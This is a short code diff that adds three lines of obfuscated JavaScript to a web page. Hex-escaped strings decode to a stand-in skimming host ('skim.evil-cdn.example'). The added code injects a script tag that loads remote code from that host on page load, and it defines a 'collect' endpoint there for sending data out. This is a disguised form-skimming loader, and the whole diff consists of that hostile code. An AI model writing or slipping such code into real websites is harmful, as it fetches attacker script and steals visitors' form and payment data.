@@ -1,0 +1,3 @@
+var _0x1a2b = ['\x68\x74\x74\x70\x73\x3a\x2f\x2f\x73\x6b\x69\x6d\x2e\x65\x76\x69\x6c\x2d\x63\x64\x6e\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2f\x63\x2e\x6a\x73', 'appendChild', 'createElement'];
+document.head[_0x1a2b[1]](Object.assign(document[_0x1a2b[2]]('script'), { src: _0x1a2b[0] }));
+var partial = "https://skim\x2eevil-cdn\x2eexample/collect";
